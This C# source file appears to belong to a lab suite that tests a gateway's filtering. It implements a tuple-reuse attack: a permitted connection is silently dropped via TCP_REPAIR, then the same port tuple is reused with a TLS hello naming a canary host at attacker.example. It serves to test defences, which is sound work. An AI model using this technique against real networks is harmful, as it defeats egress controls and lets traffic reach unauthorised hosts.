using System.Net;
using System.Net.Security;
using System.Net.Sockets;
using System.Text;

namespace Exeat.Lab.Attacks;

/// <summary>Opens a permitted connection, lets the server close it, and starts another on the very same tuple with a hello for somebody else.</summary>
/// <remarks>
/// The client's kernel would send FIN or RST on closing, and the gateway's connection tracking would learn of the end. A socket in repair mode
/// (TCP_REPAIR, needs CAP_NET_ADMIN, which an attacker who is root in its machine has) vanishes without a packet. By then the server's side is gone
/// (past FIN_WAIT2) and takes the new SYN, while the entry in the middle still stands in CLOSE_WAIT and carries the permit.
/// </remarks>
internal static class TupleReuse
{
    private const int IpProtoTcp = 6, TcpRepair = 19;
    private static readonly TimeSpan ServerForgets = TimeSpan.FromMilliseconds(1500);

    public static async Task<bool> RunAsync(AttackTarget target)
    {
        var server = new IPEndPoint(await target.ResolveAsync(), target.Port);
        Socket first = await AttackTarget.ConnectAsync(server);
        int port = ((IPEndPoint)first.LocalEndPoint!).Port;
        await HonestRequestAsync(first, target.Name);
        await Task.Delay(ServerForgets, TimeProvider.System);
        first.SetRawSocketOption(IpProtoTcp, TcpRepair, BitConverter.GetBytes(1));
        first.Dispose();
        return await OtherHelloAsync(server, port, target);
    }

    // HTTP/1.0: the server closes after its answer.
    private static async Task HonestRequestAsync(Socket socket, string name)
    {
        SslStream stream = AttackTarget.Tls(new NetworkStream(socket));
        using var limit = new CancellationTokenSource(AttackTarget.Patience, TimeProvider.System);
        await stream.AuthenticateAsClientAsync(new SslClientAuthenticationOptions { TargetHost = name }, limit.Token);
        await stream.WriteAsync(Encoding.ASCII.GetBytes($"GET / HTTP/1.0\r\nHost: {name}\r\n\r\n"), limit.Token);
        byte[] buffer = new byte[4096];
        while (await stream.ReadAsync(buffer, limit.Token) > 0)
        {
        }
    }

    // A refused SYN is tried again on the same tuple, as a stubborn client would: the first may only delete the old entry.
    private static async Task<bool> OtherHelloAsync(IPEndPoint server, int port, AttackTarget target)
    {
        for (int i = 0; ; i++)
        {
            try
            {
                using Socket second = await AttackTarget.ConnectAsync(server, port);
                await using SslStream stream = AttackTarget.Tls(new NetworkStream(second));
                using var limit = new CancellationTokenSource(AttackTarget.Patience, TimeProvider.System);
                var options = new SslClientAuthenticationOptions { TargetHost = $"{target.Canary}.attacker.example" };
                await stream.AuthenticateAsClientAsync(options, limit.Token);
                return true;
            }
            catch (SocketException) when (i < 2)
            {
                await Task.Delay(TimeSpan.FromMilliseconds(200), TimeProvider.System);
            }
        }
    }
}
